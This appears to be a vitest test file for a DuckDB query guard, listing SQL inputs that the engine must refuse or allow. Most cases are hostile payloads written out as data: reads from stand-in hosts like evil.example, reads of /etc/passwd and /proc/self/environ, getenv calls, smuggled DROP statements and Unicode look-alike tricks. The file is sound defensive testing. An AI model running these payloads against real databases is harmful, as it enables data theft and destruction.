import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkSqlText } from './check-sql-text';
import { RANDOM_GENERATORS, WINDOW_FUNCTIONS } from './classify-duckdb-functions';
import {
  ALLOWED_SCALAR_FUNCTIONS,
  ALLOWED_TABLE_FUNCTIONS,
  DUCKDB_FUNCTION_NAMES,
  DUCKDB_VERSION,
} from './duckdb-functions.generated';
import { isEngineError } from './engine-error';
import { ENGINE_MACROS } from './engine-macros';
import { isMacroName, isSyntaxWord, refuseCall } from './function-allow-list';
import { createNodeEngine, startNodeDuckDB } from './node-engine';
import { MAX_MACRO_NESTING, MAX_PAREN_DEPTH } from './query-limits';
import { readSqlShape } from './read-sql-shape';
import { lexSql } from './sql-lexer';
import { makeTestCatalog } from './test-catalog';
import type { Engine } from './types';

/**
 * Every case runs through `engine.query` (text check, binder scope check, lock) against the real
 * Node engine over the test catalog plus an added CSV (`obs`, with columns named temp and system).
 * Out of scope: `private_notes` (a catalog table) and `hidden_upload` (another added CSV).
 */
const SCOPE = ['weekly', 'cells', 'species', 'seasons', 'obs'];

/** What a refusal's message says, per kind of refusal; every refusal has code sql_rejected. */
const REFUSALS = {
  function: /is not allowed: |is not a (table )?function this engine offers/,
  scan: /a string is used as a table/,
  command: /command keyword|not a query/,
  command_or_statement: /command keyword|not a query|more than one statement/,
  system: /names the system catalog/,
  scope: /outside this session's scope|is not a catalog table|names another database|reaches outside/,
  depth: /nests (parentheses|\S+) \d+ deep; at most \d+/,
  length: /characters long; at most \d+ are read/,
  text: /invisible or control character|non-ASCII character|unterminated|parenthes|is empty|stray/,
  /** Cases kept from the first corpus: refused, for whichever reason comes first. */
  refused: /./,
} as const;

type Expected = 'ran' | keyof typeof REFUSALS;

interface GuardCase {
  name: string;
  sql: string;
  expected: Expected;
}

function macroNest(name: string, depth: number): string {
  let expression = 'lat';
  for (let level = 0; level < depth; level++) expression = `${name}(${expression},0,0,0)`;
  return `SELECT ${expression} AS d FROM cells LIMIT 1`;
}

const GUARD_CORPUS: GuardCase[] = [
  // egress: functions and scans that reach files or URLs
  {
    name: 'read_csv over https',
    sql: "SELECT * FROM read_csv('https://evil.example/x.csv')",
    expected: 'refused',
  },
  {
    name: 'read_csv with a concatenated URL',
    sql: "SELECT * FROM read_csv('https://' || 'evil.example/' || 'x.csv')",
    expected: 'refused',
  },
  {
    name: 'quoted function name',
    sql: `SELECT * FROM "read_csv"('http://evil.example/y.csv')`,
    expected: 'refused',
  },
  {
    name: 'mixed-case function name',
    sql: "SELECT * FROM ReAd_CsV_AuTo('http://evil.example/y.csv')",
    expected: 'refused',
  },
  {
    name: 'schema-qualified read_parquet',
    sql: "SELECT * FROM main.read_parquet('x.parquet')",
    expected: 'refused',
  },
  {
    name: 'comment between name and parenthesis',
    sql: "SELECT * FROM read_csv/**/('http://evil.example/x')",
    expected: 'refused',
  },
  {
    name: "FROM 'https://…' replacement scan",
    sql: "SELECT * FROM 'https://evil.example/data.parquet'",
    expected: 'refused',
  },
  { name: "FROM 'file.csv' replacement scan", sql: "FROM 'secrets.csv'", expected: 'refused' },
  {
    name: 'JOIN a file string',
    sql: "SELECT * FROM weekly JOIN 'x.csv' USING (cell_id)",
    expected: 'refused',
  },
  { name: 'comma-joined file string', sql: "SELECT * FROM weekly, 'x.csv'", expected: 'refused' },
  { name: 'quoted identifier that names a file', sql: 'SELECT * FROM "x.csv"', expected: 'refused' },
  { name: 'glob', sql: "SELECT * FROM glob('/etc/*')", expected: 'refused' },
  { name: 'read_text', sql: "SELECT content FROM read_text('/etc/passwd')", expected: 'refused' },
  { name: 'read_blob', sql: "SELECT * FROM read_blob('/etc/passwd')", expected: 'refused' },
  { name: 'parquet_metadata', sql: "SELECT * FROM parquet_metadata('x.parquet')", expected: 'refused' },
  {
    name: 'query() runs SQL text',
    sql: "SELECT * FROM query('SELECT * FROM private_notes')",
    expected: 'refused',
  },
  { name: 'query_table()', sql: "SELECT * FROM query_table('private_notes')", expected: 'refused' },
  { name: 'sniff_csv', sql: "SELECT * FROM sniff_csv('http://evil.example/x.csv')", expected: 'refused' },
  {
    name: 'read_json in a scalar subquery',
    sql: "SELECT (SELECT count(*) FROM read_json('http://evil.example/y.json')) AS n",
    expected: 'refused',
  },
  {
    name: 'read_csv inside a CTE',
    sql: "WITH a AS (SELECT * FROM read_csv('http://evil.example/x')) SELECT * FROM a",
    expected: 'refused',
  },
  { name: 'getenv', sql: "SELECT getenv('HOME') AS home", expected: 'refused' },
  {
    name: 'current_setting',
    sql: "SELECT current_setting('enable_external_access') AS s",
    expected: 'refused',
  },
  { name: 'duckdb_settings()', sql: 'SELECT * FROM duckdb_settings()', expected: 'refused' },
  { name: 'pragma_version()', sql: 'SELECT * FROM pragma_version()', expected: 'refused' },
  { name: 'sqlite_scan', sql: "SELECT * FROM sqlite_scan('x.db', 't')", expected: 'refused' },
  // statement smuggling
  { name: 'second statement DROP', sql: 'SELECT 1; DROP TABLE weekly', expected: 'refused' },
  { name: 'two SELECTs', sql: 'SELECT 1; SELECT 2', expected: 'refused' },
  { name: 'double semicolon', sql: 'SELECT 1;;', expected: 'refused' },
  {
    name: 'block comment before a second statement',
    sql: 'SELECT 1 /* comment */; DELETE FROM weekly',
    expected: 'refused',
  },
  {
    name: 'line comment then a second statement',
    sql: 'SELECT 1 -- harmless\n; DROP TABLE weekly',
    expected: 'refused',
  },
  { name: 'WITH … DELETE', sql: 'WITH x AS (SELECT 1) DELETE FROM weekly', expected: 'refused' },
  {
    name: 'DELETE … RETURNING inside a CTE',
    sql: 'WITH x AS (DELETE FROM weekly RETURNING *) SELECT * FROM x',
    expected: 'refused',
  },
  { name: 'EXPLAIN ANALYZE', sql: 'EXPLAIN ANALYZE SELECT * FROM weekly', expected: 'refused' },
  { name: 'EXPLAIN', sql: 'EXPLAIN SELECT 1', expected: 'refused' },
  {
    name: 'closing the row-cap wrapper',
    sql: 'SELECT 1) AS q; DROP TABLE weekly; SELECT * FROM (SELECT 1',
    expected: 'refused',
  },
  { name: 'unbalanced parentheses', sql: 'SELECT 1) UNION ALL (SELECT 2', expected: 'refused' },
  { name: 'unterminated block comment', sql: 'SELECT 1 /* DROP TABLE weekly', expected: 'refused' },
  { name: 'unterminated string', sql: "SELECT 'abc", expected: 'refused' },
  { name: 'leading comment then a command', sql: '/* hi */ DROP TABLE weekly', expected: 'refused' },
  { name: 'parenthesised query then ATTACH', sql: "(SELECT 1); ATTACH 'x.db'", expected: 'refused' },
  // commands
  { name: 'ATTACH memory', sql: "ATTACH ':memory:' AS m", expected: 'refused' },
  { name: 'ATTACH a URL', sql: "ATTACH 'https://evil.example/x.db' AS remote", expected: 'refused' },
  { name: 'DETACH', sql: 'DETACH m', expected: 'refused' },
  { name: 'COPY table TO', sql: "COPY weekly TO 'out.csv'", expected: 'refused' },
  { name: 'COPY query TO', sql: "COPY (SELECT 1) TO 'x.csv'", expected: 'refused' },
  { name: 'PRAGMA version', sql: 'PRAGMA version', expected: 'refused' },
  { name: 'PRAGMA show_tables', sql: 'PRAGMA show_tables', expected: 'refused' },
  { name: 'SET threads', sql: 'SET threads = 1', expected: 'refused' },
  { name: 'SET VARIABLE', sql: 'SET VARIABLE x = 1', expected: 'refused' },
  { name: 'RESET', sql: 'RESET threads', expected: 'refused' },
  { name: 'INSTALL', sql: 'INSTALL httpfs', expected: 'refused' },
  { name: 'LOAD', sql: 'LOAD httpfs', expected: 'refused' },
  { name: 'FORCE INSTALL', sql: 'FORCE INSTALL spatial', expected: 'refused' },
  { name: 'CREATE MACRO', sql: 'CREATE MACRO evil() AS 1', expected: 'refused' },
  { name: 'CREATE TABLE AS', sql: 'CREATE TABLE x AS SELECT 1', expected: 'refused' },
  {
    name: 'CREATE VIEW',
    sql: 'CREATE OR REPLACE VIEW v AS SELECT * FROM private_notes',
    expected: 'refused',
  },
  { name: 'INSERT', sql: 'INSERT INTO species SELECT * FROM species', expected: 'refused' },
  { name: 'UPDATE', sql: 'UPDATE weekly SET abundance = 0', expected: 'refused' },
  { name: 'DELETE', sql: 'DELETE FROM weekly', expected: 'refused' },
  { name: 'DROP in mixed case', sql: 'dRoP tAbLe weekly', expected: 'refused' },
  { name: 'CALL', sql: 'CALL pragma_version()', expected: 'refused' },
  { name: 'EXPORT DATABASE', sql: "EXPORT DATABASE 'x'", expected: 'refused' },
  { name: 'IMPORT DATABASE', sql: "IMPORT DATABASE 'x'", expected: 'refused' },
  { name: 'CHECKPOINT', sql: 'CHECKPOINT', expected: 'refused' },
  { name: 'BEGIN TRANSACTION', sql: 'BEGIN TRANSACTION', expected: 'refused' },
  { name: 'USE', sql: 'USE memory', expected: 'refused' },
  { name: 'DESCRIBE', sql: 'DESCRIBE weekly', expected: 'refused' },
  { name: 'SUMMARIZE', sql: 'SUMMARIZE weekly', expected: 'refused' },
  { name: 'SHOW TABLES', sql: 'SHOW TABLES', expected: 'refused' },
  { name: 'VACUUM', sql: 'VACUUM', expected: 'refused' },
  // out of scope
  { name: 'a catalog table outside the scope', sql: 'SELECT * FROM private_notes', expected: 'refused' },
  {
    name: 'out-of-scope table in upper case quotes',
    sql: 'SELECT * FROM "PRIVATE_NOTES"',
    expected: 'refused',
  },
  {
    name: 'out-of-scope table qualified with main',
    sql: 'SELECT * FROM main.private_notes',
    expected: 'refused',
  },
  {
    name: 'out-of-scope table in a scalar subquery',
    sql: 'SELECT (SELECT note FROM private_notes) AS n',
    expected: 'refused',
  },
  {
    name: 'out-of-scope table behind a CTE',
    sql: 'WITH w AS (SELECT * FROM private_notes) SELECT * FROM w',
    expected: 'refused',
  },
  {
    name: 'out-of-scope table in a WHERE subquery',
    sql: 'SELECT * FROM weekly WHERE cell_id IN (SELECT 1 FROM private_notes)',
    expected: 'refused',
  },
  { name: 'a table not in the catalog', sql: 'SELECT * FROM passwords', expected: 'refused' },
  { name: 'another database qualifier', sql: 'SELECT * FROM other_db.main.weekly', expected: 'refused' },
  { name: 'information_schema', sql: 'SELECT * FROM information_schema.tables', expected: 'refused' },
  { name: 'pg_catalog', sql: 'SELECT * FROM pg_catalog.pg_tables', expected: 'refused' },
  { name: 'sqlite_master', sql: 'SELECT * FROM sqlite_master', expected: 'refused' },
  { name: 'duckdb_tables view name', sql: 'SELECT * FROM duckdb_tables', expected: 'refused' },
  // unicode tricks
  { name: 'fullwidth semicolon', sql: 'SELECT 1\uFF1B DROP TABLE weekly', expected: 'refused' },
  { name: 'zero-width space inside a keyword', sql: 'SEL\u200BECT * FROM weekly', expected: 'refused' },
  { name: 'zero-width joiner after a statement', sql: 'SELECT 1;\u200D', expected: 'refused' },
  { name: 'zero-width space inside a string', sql: "SELECT 'a\u200Bb' AS s", expected: 'refused' },
  { name: 'Cyrillic look-alike letter in SELECT', sql: 'S\u0415LECT 1', expected: 'refused' },
  {
    name: 'Cyrillic look-alike letters in a quoted table name',
    sql: 'SELECT * FROM "w\u0435\u0435kly"',
    expected: 'refused',
  },
  { name: 'right-to-left override', sql: "SELECT '\u202E' AS x", expected: 'refused' },
  { name: 'fullwidth letters', sql: '\uFF33\uFF25\uFF2C\uFF25\uFF23\uFF34 1', expected: 'refused' },
  { name: 'byte-order mark', sql: '\uFEFFSELECT 1', expected: 'refused' },
  { name: 'NUL byte', sql: 'SELECT 1\u0000; DROP TABLE weekly', expected: 'refused' },
  { name: 'no-break space between tokens', sql: 'SELECT\u00A01', expected: 'refused' },
  { name: 'empty input', sql: '  -- nothing\n', expected: 'refused' },
  // legitimate
  {
    name: "';' and '--' inside strings",
    sql: "SELECT ';' AS semi, '--' AS dashes, '/*' AS open FROM weekly LIMIT 1",
    expected: 'ran',
  },
  { name: 'one trailing semicolon', sql: "SELECT 'a;b' AS s;  ", expected: 'ran' },
  { name: 'trailing line comment', sql: 'SELECT 1 AS one -- trailing comment', expected: 'ran' },
  {
    name: 'leading block comment',
    sql: '/* leading comment; with a semicolon */ SELECT count(*) FROM weekly',
    expected: 'ran',
  },
  {
    name: 'CTE with aggregate',
    sql: 'WITH w AS (SELECT week, avg(abundance) AS a FROM weekly GROUP BY week) SELECT * FROM w ORDER BY week LIMIT 5',
    expected: 'ran',
  },
  {
    name: 'window function with QUALIFY',
    sql: 'SELECT week, cell_id, rank() OVER (PARTITION BY week ORDER BY abundance DESC) AS r FROM weekly QUALIFY r = 1 ORDER BY week',
    expected: 'ran',
  },
  {
    name: 'JOIN … USING',
    sql: 'SELECT w.week, c.lat FROM weekly w JOIN cells c USING (cell_id) WHERE w.week = 24 LIMIT 10',
    expected: 'ran',
  },
  {
    name: 'LEFT JOIN … ON',
    sql: 'SELECT w.week, c.lon FROM weekly AS w LEFT JOIN cells AS c ON c.cell_id = w.cell_id LIMIT 3',
    expected: 'ran',
  },
  { name: 'FROM-first syntax', sql: 'FROM species SELECT common_name', expected: 'ran' },
  { name: 'doubled quote escaping a semicolon', sql: "SELECT 'it''s; fine' AS s", expected: 'ran' },
  { name: 'E-string with a backslash-escaped quote', sql: "SELECT E'a\\';b' AS s", expected: 'ran' },
  {
    name: 'dollar-quoted string holding SQL',
    sql: 'SELECT $$DROP TABLE weekly;$$ AS s',
    expected: 'ran',
  },
  { name: 'non-ASCII text inside a string', sql: "SELECT 'caf\u00E9 \uFF1B' AS s", expected: 'ran' },
  { name: 'quoted alias with a semicolon', sql: 'SELECT 1 AS "a;b"', expected: 'ran' },
  { name: 'quoted alias that is a command word', sql: 'SELECT 1 AS "drop"', expected: 'ran' },
  { name: 'string that spells read_csv', sql: "SELECT 'read_csv(''http://x'')' AS s", expected: 'ran' },
  { name: 'week_to_date macro', sql: 'SELECT week_to_date(24) AS d', expected: 'ran' },
  { name: 'distance_km macro', sql: 'SELECT distance_km(42, -85, 43, -85) AS km', expected: 'ran' },
  { name: 'season_of_week macro', sql: "SELECT season_of_week('yebsap', 5) AS s", expected: 'ran' },
  { name: 'VALUES', sql: 'VALUES (1), (2)', expected: 'ran' },
  { name: 'UNION ALL', sql: 'SELECT 1 AS x UNION ALL SELECT 2', expected: 'ran' },
  { name: 'range() table function', sql: 'SELECT sum(range) AS s FROM range(10)', expected: 'ran' },
  {
    name: 'IN subquery over two tables',
    sql: 'SELECT * FROM species WHERE species_code IN (SELECT species_code FROM weekly WHERE week = 24)',
    expected: 'ran',
  },
  { name: 'upper-case table name', sql: 'SELECT * FROM WEEKLY LIMIT 1', expected: 'ran' },
  { name: 'main-qualified table', sql: 'SELECT * FROM main.weekly LIMIT 1', expected: 'ran' },
  {
    name: 'FILTER clause',
    sql: 'SELECT count(*) FILTER (WHERE abundance IS NULL) AS not_modelled FROM weekly',
    expected: 'ran',
  },
  { name: 'parenthesised query', sql: '(SELECT 1 AS x)', expected: 'ran' },
  // ---- egress: URLs and httpfs-style readers (none is on the allow-list) ----
  ...[
    "SELECT * FROM read_csv('http://127.0.0.1:1/x.csv')",
    "SELECT * FROM read_csv_auto('s3://bucket/x.csv')",
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "SELECT * FROM read_parquet(['https://a/x.parquet', 'https://a/y.parquet'])",
    "SELECT * FROM read_json_auto('https://evil.example/x.json')",
    "SELECT * FROM read_ndjson('gcs://bucket/x')",
    "SELECT * FROM parquet_scan('https://evil.example/x.parquet')",
    "SELECT * FROM parquet_schema('https://evil.example/x.parquet')",
    "SELECT * FROM iceberg_scan('s3://bucket/t')",
    "SELECT * FROM delta_scan('s3://bucket/t')",
    "SELECT * FROM postgres_scan('host=evil', 'public', 't')",
    "SELECT * FROM mysql_query('m', 'SELECT 1')",
    "SELECT * FROM httpfs_get('https://evil.example/')",
    "SELECT http_get('https://evil.example/') AS r",
    "SELECT * FROM read_xlsx('https://evil.example/x.xlsx')",
    "SELECT * FROM st_read('https://evil.example/x.geojson')",
    "SELECT * FROM weekly WHERE cell_id IN (SELECT cell_id FROM read_csv('https://evil.example/c.csv'))",
    "SELECT * FROM weekly w JOIN read_csv('http://evil.example/c.csv') c ON c.cell_id = w.cell_id",
    "SELECT * FROM weekly, LATERAL read_csv('http://evil.example/' || weekly.species_code)",
    "SELECT * FROM weekly, read_parquet('x.parquet') AS p",
    'SELECT * FROM "READ_PARQUET"(\'x.parquet\')',
    "SELECT * FROM memory.main.read_csv('x.csv')",
    "SELECT * FROM read_csv\n(\n'x.csv'\n)",
    "SELECT * FROM read_csv -- comment\n('x.csv')",
    "SELECT * FROM sniff_csv('x.csv')",
  ].map((sql, index) => ({
    name: `egress reader ${index + 1}: ${sql.slice(14, 50)}`,
    sql,
    expected: 'function' as const,
  })),
  ...[
    "SELECT * FROM 'http://127.0.0.1:1/x.csv'",
    "SELECT * FROM 's3://bucket/x.parquet'",
    "SELECT * FROM weekly JOIN 'https://evil.example/c.parquet' c ON true",
    "SELECT * FROM weekly AS w, 'https://evil.example/c.csv' AS c",
    "SELECT * FROM weekly JOIN cells USING (cell_id), 'x.csv'",
    "SELECT * FROM weekly w JOIN cells c ON c.cell_id = w.cell_id, 'x.csv'",
    "SELECT (SELECT count(*) FROM 'x.csv') AS n",
    "SELECT * FROM weekly WHERE EXISTS (FROM 'x.parquet')",
    "SELECT * FROM (FROM 'x.json')",
    "FROM 'data/*.parquet'",
    "SELECT * FROM LATERAL 'x.csv'",
    "PIVOT 'x.csv' ON a USING count(*)",
  ].map((sql, index) => ({ name: `string scanned as a table ${index + 1}`, sql, expected: 'scan' as const })),
  // ---- filesystem ----
  ...[
    "SELECT * FROM glob('*')",
    "SELECT * FROM glob('/work/**')",
    "SELECT * FROM read_text('/etc/hostname')",
    "SELECT * FROM read_blob('/proc/self/environ')",
    "SELECT size FROM read_blob('*.parquet')",
    "SELECT * FROM parquet_metadata('weekly.parquet')",
    "SELECT * FROM parquet_file_metadata('weekly.parquet')",
    "SELECT * FROM parquet_kv_metadata('weekly.parquet')",
    "SELECT * FROM read_csv('/etc/passwd', header = false)",
    "SELECT * FROM read_csv(['a.csv', 'b.csv'], union_by_name = true)",
    "SELECT * FROM sqlite_scan('x.db', 't')",
    'SELECT * FROM arrow_scan(0, 0, 0)',
    'SELECT * FROM seq_scan()',
  ].map((sql, index) => ({ name: `filesystem function ${index + 1}`, sql, expected: 'function' as const })),
  ...[
    "COPY (SELECT * FROM weekly) TO 'x.parquet' (FORMAT parquet)",
    "COPY weekly FROM 'x.csv'",
    "EXPORT DATABASE 'dump' (FORMAT parquet)",
    "IMPORT DATABASE 'dump'",
    "ATTACH 'x.duckdb' AS x (READ_ONLY)",
    "ATTACH 'sqlite:x.db'",
    'DETACH DATABASE x',
    'CREATE TABLE t AS FROM weekly',
    'CREATE TEMP TABLE t AS SELECT 1',
    'CREATE SECRET s (TYPE s3, KEY_ID 1)',
    "CREATE VIEW v AS SELECT * FROM 'x.csv'",
    "SELECT 1 UNION ALL COPY weekly TO 'x'",
    "WITH x AS (SELECT 1) COPY x TO 'y.csv'",
  ].map((sql, index) => ({ name: `filesystem command ${index + 1}`, sql, expected: 'command' as const })),
  // ---- settings ----
  ...[
    'SET enable_external_access = true',
    'SET GLOBAL lock_configuration = false',
    'SET SESSION threads TO 1',
    "SET allowed_paths = ['/']",
    'RESET ALL',
    'PRAGMA enable_profiling',
    'PRAGMA threads = 4',
    'PRAGMA table_info(weekly)',
    "CALL pragma_table_info('private_notes')",
    'CALL enable_logging()',
    'SET VARIABLE secret = 1',
    'RESET VARIABLE secret',
    'SELECT 1; SET threads = 1',
  ].map((sql, index) => ({
    name: `settings command ${index + 1}`,
    sql,
    expected: 'command_or_statement' as const,
  })),
  ...[
    "SELECT current_setting('threads') AS t",
    "SELECT current_setting('allowed_paths') AS p",
    "SELECT getvariable('secret') AS v",
    "SELECT getenv('HOME') AS h",
    'SELECT * FROM duckdb_settings()',
    "SELECT * FROM pragma_show('weekly')",
    'SELECT * FROM pragma_version()',
    'SELECT * FROM pragma_platform()',
    'SELECT * FROM pragma_user_agent()',
    'SELECT * FROM pragma_database_size()',
    "SELECT * FROM pragma_storage_info('weekly')",
    'SELECT * FROM pragma_metadata_info()',
    'SELECT * FROM pragma_collations()',
    'SELECT version() AS v',
    'SELECT current_schema() AS s',
    'SELECT current_schemas(true) AS s',
    'SELECT current_database() AS d',
    "SELECT in_search_path('memory', 'main') AS b",
    "SELECT get_block_size('memory') AS b",
    "SELECT * FROM which_secret('s3://x', 's3')",
    'SELECT * FROM duckdb_secrets()',
    'SELECT * FROM duckdb_extensions()',
    'SELECT * FROM duckdb_variables()',
    'SELECT * FROM duckdb_memory()',
    'SELECT * FROM duckdb_temporary_files()',
  ].map((sql, index) => ({
    name: `settings function ${index + 1}: ${sql.slice(7, 40)}`,
    sql,
    expected: 'function' as const,
  })),
  // ---- system catalogs ----
  ...[
    'SELECT * FROM information_schema.columns',
    'SELECT table_name FROM information_schema.tables',
    'SELECT * FROM "information_schema"."tables"',
    'SELECT * FROM INFORMATION_SCHEMA.SCHEMATA',
    'SELECT * FROM system.information_schema.views',
    'SELECT * FROM pg_catalog.pg_class',
    'SELECT * FROM pg_tables',
    'SELECT * FROM pg_class',
    'SELECT * FROM pg_namespace',
    'SELECT * FROM pg_settings',
    'SELECT * FROM sqlite_master',
    'SELECT * FROM sqlite_schema',
    'SELECT * FROM sqlite_temp_master',
    'SELECT * FROM duckdb_tables',
    'SELECT * FROM duckdb_columns',
    'SELECT * FROM duckdb_views',
    'SELECT * FROM "duckdb_tables"',
    'SELECT * FROM DuckDB_Tables',
    'SELECT * FROM main.duckdb_tables',
    'SELECT * FROM system.main.duckdb_tables',
    'SELECT * FROM pragma_database_list',
    'SELECT * FROM weekly WHERE species_code IN (SELECT table_name FROM duckdb_tables)',
    'SELECT * FROM temp.main.private_notes',
    'SELECT * FROM "temp".main.private_notes',
    'SELECT * FROM "system".main.duckdb_settings',
    "SELECT * FROM system.main.read_csv('x.csv')",
    'SELECT * FROM duckdb_tables()',
    'SELECT * FROM duckdb_columns()',
    'SELECT * FROM duckdb_databases()',
    'SELECT * FROM duckdb_schemas()',
    'SELECT * FROM duckdb_views()',
    'SELECT * FROM duckdb_logs()',
    'SELECT * FROM duckdb_types()',
    'SELECT 1 AS "pg_class"',
    'WITH t AS (SELECT * FROM information_schema.tables) SELECT * FROM t',
  ].map((sql, index) => ({
    name: `system catalog ${index + 1}: ${sql.slice(14, 50)}`,
    sql,
    expected: 'system' as const,
  })),
  ...[
    'SELECT * FROM duckdb_functions()',
    'SELECT * FROM duckdb_settings() AS s',
    'SELECT * FROM duckdb_optimizers()',
    'SELECT * FROM duckdb_keywords()',
    'SELECT * FROM duckdb_dependencies()',
    'SELECT * FROM duckdb_prepared_statements()',
    "SELECT * FROM pragma_table_info('private_notes')",
    'SELECT * FROM summary((SELECT 1))',
  ].map((sql, index) => ({
    name: `catalog function ${index + 1}: ${sql.slice(14, 44)}`,
    sql,
    expected: 'function' as const,
  })),
  // ---- dynamic SQL ----
  ...[
    "SELECT * FROM query('SELECT * FROM private_notes')",
    "SELECT * FROM query_table('private_notes')",
    "SELECT * FROM query_table(['private_notes', 'weekly'])",
    "SELECT * FROM query('SELECT ' || '* FROM private_notes')",
    "SELECT * FROM histogram('private_notes', note)",
    "SELECT * FROM histogram_values('private_notes', note)",
    "SELECT * FROM weekly, histogram('private_notes', note)",
    "SELECT * FROM sql_auto_complete('SEL')",
    "SELECT json_execute_serialized_sql('x') AS j",
    "SELECT * FROM duckdb_logs_parsed('QueryLog')",
    "SELECT * FROM (FROM histogram('private_notes', note))",
    "SELECT * FROM weekly JOIN histogram('private_notes', note) ON true",
    "SELECT * FROM weekly CROSS JOIN LATERAL histogram('private_notes', note)",
    "SELECT (FROM histogram('private_notes', note) LIMIT 1) AS h",
    "SELECT * FROM weekly WHERE EXISTS (FROM histogram('private_notes', note))",
    "SELECT * FROM weekly WHERE species_code IN (SELECT bin FROM histogram('private_notes', note))",
    "PIVOT histogram('private_notes', note) ON bin IN ('x') USING count(*)",
    "SELECT * FROM weekly w JOIN cells c ON c.cell_id = w.cell_id, histogram('private_notes', note)",
    "WITH h AS (FROM histogram(concat('private', '_notes'), note)) SELECT * FROM h",
  ].map((sql, index) => ({ name: `dynamic SQL ${index + 1}`, sql, expected: 'function' as const })),
  // ---- side-effect functions ----
  ...[
    'SELECT * FROM truncate_duckdb_logs()',
    "SELECT write_log('x', level := 'error') AS w",
    "SELECT write_log('x') AS w FROM weekly LIMIT 1",
    'SELECT "write_log"(\'x\') AS w',
    "SELECT main.write_log('x') AS w",
    'SELECT setseed(0.5) AS s',
    "SELECT nextval('seq') AS n",
    "SELECT currval('seq') AS n",
    "SELECT error('boom') AS e",
    'SELECT stats(abundance) AS s FROM weekly LIMIT 1',
    'SELECT current_query() AS q',
    'SELECT current_query_id() AS q',
    'SELECT current_connection_id() AS c',
    'SELECT current_transaction_id() AS t',
    'SELECT txid_current() AS t',
    'SELECT * FROM force_checkpoint()',
    'SELECT * FROM enable_logging()',
    'SELECT * FROM disable_logging()',
    'SELECT * FROM test_all_types()',
    'SELECT * FROM test_vector_types(NULL::INT)',
    "SELECT install_extension('httpfs') AS i",
    "SELECT load_extension('httpfs') AS l",
    "SELECT has_table_privilege('private_notes', 'select') AS p",
    "SELECT pg_get_viewdef('v') AS d",
    'SELECT * FROM weekly WHERE write_log(species_code) IS NULL',
    'SELECT sum(abundance) FILTER (WHERE setseed(0.1) IS NULL) AS s FROM weekly',
    "SELECT list_transform([1], x -> write_log('x')) AS l",
    "SELECT 'x'.write_log() AS w",
    "SELECT write_log(level := 'error', 'x') AS w",
    'SELECT * FROM range(3) write_log(x)',
    "SELECT CASE WHEN true THEN write_log('x') END AS w",
    "SELECT [write_log('x')] AS w",
    "SELECT {'k': setseed(0.1)} AS w",
  ].map((sql, index) => ({
    name: `side effect ${index + 1}: ${sql.slice(7, 45)}`,
    sql,
    expected: 'function' as const,
  })),
  ...[
    'CHECKPOINT',
    'SELECT * FROM checkpoint()',
    'FORCE CHECKPOINT',
    'INSTALL httpfs FROM core_nightly',
    "LOAD '/tmp/x.duckdb_extension'",
    'UPDATE EXTENSIONS',
    'CALL truncate_duckdb_logs()',
    'SUMMARIZE private_notes',
    'DESCRIBE private_notes',
    'SELECT * FROM (DESCRIBE private_notes)',
    'SELECT * FROM (SUMMARIZE private_notes)',
    'SHOW private_notes',
    'SHOW ALL TABLES',
    'FROM (SHOW DATABASES)',
  ].map((sql, index) => ({
    name: `state command ${index + 1}: ${sql.slice(0, 30)}`,
    sql,
    expected: 'command' as const,
  })),
  // ---- scope: tables outside the session ----
  ...[
    'SELECT * FROM private_notes',
    'SELECT * FROM Private_Notes',
    'SELECT * FROM "private_notes"',
    'SELECT * FROM "Private_Notes"',
    'SELECT * FROM memory.private_notes',
    'SELECT * FROM memory.main.private_notes',
    'SELECT * FROM "memory"."main"."private_notes"',
    'SELECT * FROM main . private_notes',
    'SELECT * FROM/**/private_notes',
    'SELECT * FROM weekly CROSS JOIN private_notes',
    'SELECT * FROM weekly w ASOF JOIN (SELECT 1 AS week, note FROM private_notes) p ON w.week >= p.week',
    'SELECT * FROM weekly POSITIONAL JOIN private_notes',
    'SELECT * FROM weekly, private_notes',
    'SELECT * FROM weekly UNION ALL BY NAME SELECT * FROM private_notes',
    'SELECT note FROM weekly LEFT JOIN LATERAL (SELECT note FROM private_notes) p ON true',
    'SELECT (SELECT first(note) FROM private_notes) AS n FROM species',
    'TABLE private_notes',
    'FROM private_notes',
    'FROM private_notes SELECT note',
    "PIVOT private_notes ON note IN ('x') USING count(*)",
    'UNPIVOT (SELECT note, note AS n2 FROM private_notes) ON note, n2 INTO NAME k VALUE v',
    'WITH RECURSIVE r AS (SELECT note FROM private_notes) SELECT * FROM r',
    'SELECT * FROM hidden_upload',
    'SELECT count(*) FROM hidden_upload',
    'SELECT * FROM weekly WHERE EXISTS (SELECT 1 FROM hidden_upload)',
    'SELECT * FROM weekly w JOIN private_notes p ON p.note = w.species_code',
    'SELECT * FROM (VALUES (1)) t(x), private_notes',
    'SELECT * FROM weekly WHERE (SELECT count(*) FROM private_notes) > 0',
    'SELECT * FROM other.private_notes',
    'SELECT * FROM nowhere',
  ].map((sql, index) => ({
    name: `out of scope ${index + 1}: ${sql.slice(0, 44)}`,
    sql,
    expected: 'scope' as const,
  })),
  // ---- bind-phase bombs and oversized input ----
  { name: 'red-team distance_km nest of 21', sql: macroNest('distance_km', 21), expected: 'depth' },
  { name: 'distance_km nest of 30', sql: macroNest('distance_km', 30), expected: 'depth' },
  { name: 'distance_km nest of 4 (one over the cap)', sql: macroNest('distance_km', 4), expected: 'depth' },
  {
    name: 'week macros alternating 8 deep',
    sql: `SELECT ${'date_to_week(week_to_date('.repeat(4)}24${'))'.repeat(4)} AS w`,
    expected: 'depth',
  },
  {
    name: 'DuckDB macro fmod nested 20 deep',
    sql: `SELECT ${'fmod('.repeat(20)}7${', 3)'.repeat(20)} AS m`,
    expected: 'depth',
  },
  {
    name: 'quoted, qualified macro names nested',
    sql: `SELECT ${'main."distance_km"('.repeat(6)}lat${',0,0,0)'.repeat(6)} AS d FROM cells`,
    expected: 'depth',
  },
  {
    name: 'macro nest hidden behind comments',
    sql: `SELECT ${'distance_km/**/('.repeat(8)}lat${',0,0,0)'.repeat(8)} AS d FROM cells`,
    expected: 'depth',
  },
  {
    name: 'macro nest inside a CTE',
    sql: `WITH x AS (SELECT ${macroNest('distance_km', 10).slice(7)}) SELECT * FROM x`,
    expected: 'depth',
  },
  {
    name: '17 nested parentheses',
    sql: `SELECT ${'('.repeat(17)}1${')'.repeat(17)} AS x`,
    expected: 'depth',
  },
  {
    name: '1,000 nested parentheses',
    sql: `SELECT ${'('.repeat(1000)}1${')'.repeat(1000)} AS x`,
    expected: 'depth',
  },
  {
